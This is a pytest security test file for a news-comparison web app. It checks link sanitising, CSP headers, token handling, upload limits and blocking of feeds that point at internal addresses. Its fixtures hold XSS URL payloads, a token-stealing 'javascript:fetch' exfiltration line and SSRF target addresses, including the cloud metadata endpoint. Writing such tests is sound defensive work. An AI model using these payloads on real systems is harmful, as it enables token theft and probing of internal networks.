"""Issue 16, the web rows: links only to http(s), the write token kept out of storage, security
headers and a strict CSP, the token checked before an upload is read, uploads streamed to disk,
feeds kept off internal addresses, and one job queue for every server process.

No test reaches an outside address: feed refusal is shown on loopback and on address literals
(refused before any connection; a guard transport fails the test if one were tried), and the one
local server on 127.0.0.1 exists only to prove it gets no request.
"""

from __future__ import annotations

import asyncio
import http.server
import json
import re
import shutil
import socket
import tempfile
import threading
import time
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient

from kroscek.compare.story import StoryBrief
from kroscek.ingest.feed import NOT_PUBLIC, UNREACHABLE, FeedError, fetch_feed
from kroscek.model import Article, Sentence, Story
from kroscek.report import ReportedStory, story_summary
from kroscek.report.html import render_story, write_report
from kroscek.store import Store
from kroscek.urls import safe_url
from kroscek.web.app import ServerSettings, create_app
from kroscek.web.jobs import IngestJobs

BAD_URLS = ["javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
            "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
            "https:javascript:alert(1)", "//evil.example/x", "/relative"]
GOOD_URLS = ["https://news.example/a?b=1", "HTTP://NEWS.EXAMPLE/A", "http://[2001:db8::1]:8080/x"]
TEXT = "Banjir merendam 300 rumah di Desa Sukamaju pada Senin pagi."


def article(n: int, url: str | None) -> Article:
    return Article(id=f"x{n:015d}", source=f"feed-{n}.xml", url=url, title=f"Berita {n}", text=TEXT, outlet="Warta Uji",
                   language="id", published="2025-10-01", sentences=[Sentence(0, TEXT, 0)])


@pytest.fixture()
def linked_store(tmp_path) -> Iterator[Store]:
    """A store whose articles carry every bad URL and a good one, in one story."""
    store = Store(tmp_path / "links.db")
    articles = [article(n, url) for n, url in enumerate([*BAD_URLS, GOOD_URLS[0]])]
    store.add_articles(articles)
    story = Story("s-links", "Berita", [a.id for a in articles])
    store.save_stories([story])
    store.save_brief("s-links", StoryBrief(), replace(story_summary(story, articles), badges=[]))
    yield store
    store.close()


def hrefs(html: str) -> list[str]:
    return re.findall(r"""href\s*=\s*["']([^"']*)["']""", html, flags=re.I)


def assert_only_safe_links(html: str) -> None:
    for href in hrefs(html):
        unescaped = href.replace("&amp;", "&").replace("&#9;", "\t")
        assert unescaped.startswith(("/", "#", "http://", "https://", "story-", "index.html")), href
        assert not re.match(r"\s*(javascript|data|vbscript):", unescaped, flags=re.I), href


# -- row 1: only http(s) URLs become links ------------------------------------------------------


@pytest.mark.parametrize("url", BAD_URLS + [None, "", "http://", "http://[::1"])
def test_safe_url_refuses_every_other_scheme_and_trick(url):
    assert safe_url(url) is None


@pytest.mark.parametrize("url", GOOD_URLS)
def test_safe_url_keeps_http_and_https(url):
    assert safe_url(url) == url


def test_pages_and_static_report_link_only_http_urls(linked_store, tmp_path):
    with TestClient(create_app(ServerSettings(db=linked_store.url))) as client:
        story = client.get("/stories/s-links").text
        assert_only_safe_links(story)
        assert 'href="https://news.example/a?b=1"' in story
        assert "javascript:alert(document.cookie)" in story  # shown as text, not as a link
        for n in range(len(BAD_URLS)):
            assert_only_safe_links(client.get(f"/articles/x{n:015d}").text)
        api_story = client.get("/api/v1/stories/s-links").json()
        assert [a["safe_url"] for a in api_story["article_details"]] == [None] * len(BAD_URLS) + [GOOD_URLS[0]]
        assert client.get("/api/v1/articles/x000000000000000").json()["article"]["safe_url"] is None
        items = client.get("/api/v1/articles", params={"size": 50}).json()["items"]
        assert {i["url"]: i["safe_url"] for i in items}["JaVaScRiPt:alert(1)"] is None
    report = {"articles": [a.to_dict() for a in linked_store.articles()],
              "stories": [{**linked_store.story_summary("s-links").to_dict(), "brief": {}}], "rejected": [], "story_events": []}
    write_report(report, tmp_path / "report")
    page = (tmp_path / "report" / "story-s-links.html").read_text(encoding="utf-8")
    assert_only_safe_links(page)
    assert 'href="https://news.example/a?b=1"' in page


def test_rss_and_json_sourced_urls_are_not_links(tmp_path):
    """A feed's <link> and a JSON record's url arrive as given; the page still links none of them."""
    from kroscek.ingest.feed import read_feed

    rss = tmp_path / "poisoned.xml"
    rss.write_text(f"""<?xml version="1.0"?><rss version="2.0"><channel><title>Warta</title>
<item><title>Satu</title><link>JaVaScRiPt:alert(localStorage.getItem('kroscek-token'))</link>
<description>{TEXT}</description></item></channel></rss>""", encoding="utf-8")
    entry = next(read_feed(rss))
    assert entry.url.lower().startswith("javascript:")
    json_url = json.loads('{"url": "javascript:fetch(\'//x\'+localStorage.token)"}')["url"]
    articles = [article(1, entry.url), article(2, json_url)]
    html = render_story(ReportedStory(story_summary(Story("s", "t", [a.id for a in articles]), articles)), articles)
    assert_only_safe_links(html)
    assert "javascript:" in html.lower()  # the text is there, escaped, as text


# -- row 9: the token is not stored; security headers; --read-token guards every page ------------


def test_security_headers_and_no_inline_script(linked_store):
    with TestClient(create_app(ServerSettings(db=linked_store.url))) as client:
        for path in ["/", "/stories/s-links", "/articles/x000000000000000", "/ingest", "/search?q=banjir",
                     "/stories/nope", "/api/v1/stories", "/static/app.js", "/static/report.css"]:
            response = client.get(path)
            assert response.status_code in (200, 404), path
            csp = response.headers["content-security-policy"]
            script_src = re.search(r"script-src ([^;]*)", csp).group(1)
            assert script_src == "'self'" and "unsafe" not in csp and "frame-ancestors 'none'" in csp, path
            assert response.headers["x-content-type-options"] == "nosniff"
            assert response.headers["x-frame-options"] == "DENY"
            assert response.headers["referrer-policy"] == "no-referrer"
            if response.headers["content-type"].startswith("text/html"):
                assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", response.text), f"inline script on {path}"
                assert "<style" not in response.text and " style=" not in response.text, path
        assert "localStorage.setItem" not in client.get("/static/ingest.js").text
        assert client.get("/docs").headers["content-security-policy"].startswith("default-src 'none'")


def test_read_token_guards_ingest_docs_and_openapi(linked_store):
    token = linked_store.add_token("desk")
    with TestClient(create_app(ServerSettings(db=linked_store.url, read_token_required=True))) as client:
        for path in ["/ingest", "/docs", "/openapi.json", "/", "/api/v1/stories"]:
            assert client.get(path).status_code == 401, path
            assert client.get(path, headers={"Authorization": f"Bearer {token}"}).status_code == 200, path
        assert client.get("/openapi.json", params={"token": token}).json()["paths"]["/api/v1/ingest"]["post"]["requestBody"]


# -- rows 3 and 6: the token before the body; uploads streamed to disk within limits --------------


def call_asgi(app, headers: dict[str, str], chunks: Iterator[bytes]) -> tuple[int, dict, int]:
    """POST /api/v1/ingest straight into the ASGI app; (status, JSON body, body chunks it read)."""
    read = 0
    sent: dict = {"body": b""}

    async def receive() -> dict:
        nonlocal read
        chunk = next(chunks, None)
        if chunk is None:
            return {"type": "http.request", "body": b"", "more_body": False}
        read += 1
        return {"type": "http.request", "body": chunk, "more_body": True}

    async def send(message: dict) -> None:
        if message["type"] == "http.response.start":
            sent["status"] = message["status"]
        elif message["type"] == "http.response.body":
            sent["body"] += message.get("body", b"")

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
             "path": "/api/v1/ingest", "raw_path": b"/api/v1/ingest", "query_string": b"", "root_path": "",
             "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
             "client": ("127.0.0.1", 1), "server": ("127.0.0.1", 80)}
    asyncio.run(app(scope, receive, send))
    return sent["status"], json.loads(sent["body"] or b"{}"), read


def multipart(files: list[tuple[str, int]], boundary: str = "kroscekboundary", chunk: int = 64 * 1024) -> Iterator[bytes]:
    """A multipart body of files of the given sizes, made on the fly (never whole in memory)."""
    for name, size in files:
        yield (f"--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; filename=\"{name}\"\r\n"
               "Content-Type: text/plain\r\n\r\n").encode()
        for start in range(0, size, chunk):
            yield b"a" * min(chunk, size - start)
        yield b"\r\n"
    yield f"--{boundary}--\r\n".encode()


FORM = {"content-type": "multipart/form-data; boundary=kroscekboundary"}


@pytest.fixture()
def upload_dir(tmp_path, monkeypatch) -> Path:
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def test_no_upload_byte_is_read_without_a_valid_token(tmp_path, upload_dir):
    store = Store(tmp_path / "auth.db")
    app = create_app(ServerSettings(db=store.url))
    for headers in [FORM, {**FORM, "authorization": "Bearer wrong"}]:
        status, body, read = call_asgi(app, headers, multipart([("big.txt", 50 * 2**20)]))
        assert status == 401 and "token" in body["error"]
        assert read == 0  # refused before the first byte of the body
    assert list(upload_dir.iterdir()) == [] and store.count_articles() == 0


def test_uploads_stream_to_disk_within_per_file_and_total_limits(tmp_path, upload_dir):
    store = Store(tmp_path / "stream.db")
    token = store.add_token("newsroom")
    auth = {**FORM, "authorization": f"Bearer {token}"}
    app = create_app(ServerSettings(db=store.url, max_upload_bytes=10 * 2**20, max_request_bytes=40 * 2**20, max_files=5))
    tracemalloc.start()
    status, body, _ = call_asgi(app, auth, multipart([(f"f{n}.txt", 9 * 2**20) for n in range(3)]))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert status == 202 and body["state"] == "queued" and body["files"] == 3
    assert peak < 8 * 2**20, f"27 MB of uploads took {peak / 2**20:.1f} MB of memory"
    [folder] = upload_dir.iterdir()
    assert sorted((p.name, p.stat().st_size) for p in folder.iterdir()) == [(f"00{n}-f{n}.txt", 9 * 2**20) for n in range(3)]
    shutil.rmtree(folder)

    status, body, _ = call_asgi(app, auth, multipart([("one.txt", 1024), ("huge.txt", 11 * 2**20)]))
    assert status == 413 and "huge.txt" in body["error"]
    status, body, _ = call_asgi(app, auth, multipart([(f"g{n}.txt", 9 * 2**20) for n in range(5)]))
    assert status == 413 and "upload too large" in body["error"]
    status, body, read = call_asgi(app, {**auth, "content-length": str(2**30)}, multipart([("gig.txt", 2**30)]))
    assert status == 413 and read == 0  # a declared size over the limit: refused unread
    status, body, _ = call_asgi(app, auth, multipart([(f"h{n}.txt", 10) for n in range(6)]))
    assert status == 413 and "too many files" in body["error"]
    assert list(upload_dir.iterdir()) == []  # what a refused upload wrote is gone


# -- row 4: feeds never reach internal addresses ------------------------------------------------


class Counter(http.server.BaseHTTPRequestHandler):
    hits = 0

    def do_GET(self) -> None:  # noqa: N802
        type(self).hits += 1
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"<rss version='2.0'><channel><title>internal</title></channel></rss>")

    def log_message(self, *args) -> None:
        pass


@pytest.fixture()
def loopback_server() -> Iterator[int]:
    """A server on 127.0.0.1, only to prove that no feed request reaches it."""
    Counter.hits = 0
    server = http.server.HTTPServer(("127.0.0.1", 0), Counter)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    assert Counter.hits == 0, "a feed request reached the loopback server"


def guard(request: httpx.Request) -> httpx.Response:
    raise AssertionError(f"a request was sent to {request.url}")


LOOPBACK_FORMS = ["127.0.0.1", "localhost", "0x7f000001", "2130706433", "017700000001", "127.1", "0177.0.0.1",
                  "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]"]
INTERNAL = ["10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "224.0.0.1",
            "240.0.0.1", "255.255.255.255", "[fe80::1]", "[fc00::1]", "[ff02::1]", "[2002:a00:1::]", "[64:ff9b::a00:1]"]


@pytest.mark.parametrize("host", LOOPBACK_FORMS)
def test_feeds_on_loopback_in_any_form_are_refused(host, loopback_server):
    with pytest.raises(FeedError, match="not a public"):
        fetch_feed(f"http://{host}:{loopback_server}/feed")


@pytest.mark.parametrize("host", INTERNAL)
def test_feeds_on_private_and_reserved_addresses_are_refused_unsent(host):
    with pytest.raises(FeedError, match="not a public"):
        fetch_feed(f"http://{host}/latest/meta-data/", transport=httpx.MockTransport(guard))


def public_resolver(host, port, **_):
    """Names a test-only host as a public address (the mock transport sends nothing); any other host
    must be an address literal, resolved without a DNS query."""
    if host == "news.example":
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.215.14", port))]
    return socket.getaddrinfo(host, port, flags=socket.AI_NUMERICHOST, **_)


def test_a_redirect_to_an_internal_address_is_refused(loopback_server):
    seen = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(302, headers={"location": f"http://0x7f000001:{loopback_server}/internal"})

    with pytest.raises(FeedError, match="not a public"):
        fetch_feed("https://news.example/rss", resolve=public_resolver, transport=httpx.MockTransport(handler))
    assert len(seen) == 1
    assert seen[0].url.host == "93.184.215.14" and seen[0].headers["host"] == "news.example"  # pinned to the checked address
    assert seen[0].extensions["sni_hostname"] == "news.example"


def test_redirects_size_and_time_are_bounded():
    def loop(request: httpx.Request) -> httpx.Response:
        return httpx.Response(301, headers={"location": "/again"})

    with pytest.raises(FeedError, match="redirects"):
        fetch_feed("http://news.example/rss", resolve=public_resolver, transport=httpx.MockTransport(loop))

    def huge(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=(b"x" * 65536 for _ in range(100)))

    with pytest.raises(FeedError, match="larger than"):
        fetch_feed("http://news.example/rss", resolve=public_resolver, transport=httpx.MockTransport(huge),
                   max_bytes=2**20)

    def slow_body():
        for _ in range(20):
            time.sleep(0.05)
            yield b"<rss>"

    def slow(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=slow_body())

    with pytest.raises(FeedError, match="too long"):
        fetch_feed("http://news.example/rss", resolve=public_resolver, transport=httpx.MockTransport(slow), timeout=0.3)
    ok = fetch_feed("http://news.example/rss", resolve=public_resolver,
                    transport=httpx.MockTransport(lambda r: httpx.Response(200, content=b"<rss/>")))
    assert ok == b"<rss/>"


def test_readers_see_a_generic_feed_error_not_the_network_one(tmp_path, loopback_server):
    store = Store(tmp_path / "feeds.db")
    token = store.add_token("desk")

    def refused(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("[Errno 111] Connection refused")

    with TestClient(create_app(ServerSettings(db=store.url))) as client:
        jobs = client.app.state.jobs
        internal = f"http://127.0.0.1:{loopback_server}/feed"
        assert client.post("/api/v1/feeds", data={"url": internal}, headers={"Authorization": f"Bearer {token}"}).status_code == 201
        jobs.poll_feed(internal)
        store.add_feed("http://news.example/rss")
        jobs.fetch = lambda url: fetch_feed(url, resolve=public_resolver, transport=httpx.MockTransport(refused))
        jobs.poll_feed("http://news.example/rss")
        errors = {f.url: f.last_error for f in store.feeds()}
        assert errors[internal] == NOT_PUBLIC and errors["http://news.example/rss"] == UNREACHABLE
        page = client.get("/ingest").text
        assert "Errno" not in page and "ConnectError" not in page and "refused: the feed" in page


# -- row 14: one job queue and one feed poller for every server process --------------------------


def test_two_server_processes_share_one_queue(tmp_path):
    """Two apps over one store stand for two ``serve --workers`` processes."""
    store = Store(tmp_path / "workers.db")
    token = store.add_token("desk")
    files = {"files": ("pasar.txt", f"Pasar Apung Dibuka\n\n{TEXT} Wali kota membuka pasar itu.".encode(), "text/plain")}
    with TestClient(create_app(ServerSettings(db=store.url))) as first, TestClient(create_app(ServerSettings(db=store.url))) as second:
        holders = [first.app.state.jobs.holding, second.app.state.jobs.holding]
        job = first.post("/api/v1/ingest", files=files, headers={"Authorization": f"Bearer {token}"}).json()
        deadline = time.monotonic() + 120
        while True:
            status = second.get(f"/api/v1/jobs/{job['id']}")
            assert status.status_code == 200  # the other process knows the job
            if status.json()["state"] in ("done", "failed") or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        assert status.json()["state"] == "done" and status.json()["added"] == 1
        assert sorted(holders) == [False, True] or holders == [True, False]


def test_each_feed_is_polled_once_per_interval_by_one_process(tmp_path):
    store = Store(tmp_path / "poll.db")
    store.add_feed("http://news.example/rss")
    polls: list[str] = []

    def fetch(url: str) -> bytes:
        polls.append(url)
        raise FeedError(UNREACHABLE)

    workers = [IngestJobs(store, idle_seconds=0.05, fetch=fetch) for _ in range(3)]
    for jobs in workers:
        jobs.start()
    time.sleep(1.5)
    assert polls == ["http://news.example/rss"]
    assert sum(jobs.holding for jobs in workers) == 1
    holder = next(jobs for jobs in workers if jobs.holding)
    holder.stop()  # the runner goes: another process takes its place
    deadline = time.monotonic() + 5
    while not any(jobs.holding for jobs in workers if jobs is not holder) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert sum(jobs.holding for jobs in workers if jobs is not holder) == 1
    for jobs in workers:
        jobs.stop()


# -- rows 1 and 9 in a browser: a poisoned link does nothing, the token is kept in no storage -----


@pytest.fixture()
def browser_page(linked_store):
    """The app on a loopback port and a Chromium page (skipped where Chromium is not installed)."""
    playwright = pytest.importorskip("playwright.sync_api")
    chromium = shutil.which("chromium") or "/usr/bin/chromium"
    if not Path(chromium).exists():
        pytest.skip("Debian's chromium is not installed (apt-get install chromium)")
    import uvicorn

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(create_app(ServerSettings(db=linked_store.url)), host="127.0.0.1", port=port,
                                           log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, headless=True,
                                    args=["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"])
        page = browser.new_context().new_page()
        violations: list[str] = []
        page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
        yield page, f"http://127.0.0.1:{port}", linked_store.add_token("browser"), violations, playwright
        browser.close()
    server.should_exit = True
    thread.join(timeout=10)


def test_browser_a_javascript_url_is_text_not_a_link(browser_page):
    page, url, _, violations, _ = browser_page
    for n, bad in enumerate(BAD_URLS[:4]):
        page.goto(f"{url}/articles/x{n:015d}")
        assert page.locator("a[href*='script:' i]").count() == 0
        assert page.get_by_text(bad.strip(), exact=False).count() >= 1
    page.goto(f"{url}/stories/s-links")
    links = page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)")
    assert links and all(link.startswith(("http://", "https://")) for link in links)
    assert page.locator(f"a[href='{GOOD_URLS[0]}']").count() == 1
    assert violations == []  # the page's own script and style load under the strict CSP


def test_browser_the_write_token_stays_in_page_memory_only(browser_page, tmp_path):
    page, url, token, _, playwright = browser_page
    page.goto(f"{url}/ingest")
    page.evaluate("localStorage.setItem('kroscek-token', 'left by an older version')")
    page.reload()
    upload = tmp_path / "berita.txt"
    upload.write_text(f"Berita Uji\n\n{TEXT}\n", encoding="utf-8")
    page.fill("#token", token)
    page.dispatch_event("#token", "change")
    page.set_input_files("#files", str(upload))
    page.get_by_role("button", name="Upload").click()
    playwright.expect(page.locator("#status")).not_to_have_text(re.compile("^(uploading|Refused)|^$"))
    stored = page.evaluate("[JSON.stringify(localStorage), JSON.stringify(sessionStorage), document.cookie]")
    assert all(token not in value for value in stored) and stored[0] == "{}" and stored[1] == "{}"
    page.reload()
    assert page.input_value("#token") == ""  # a reload forgets it: it lived in the page only
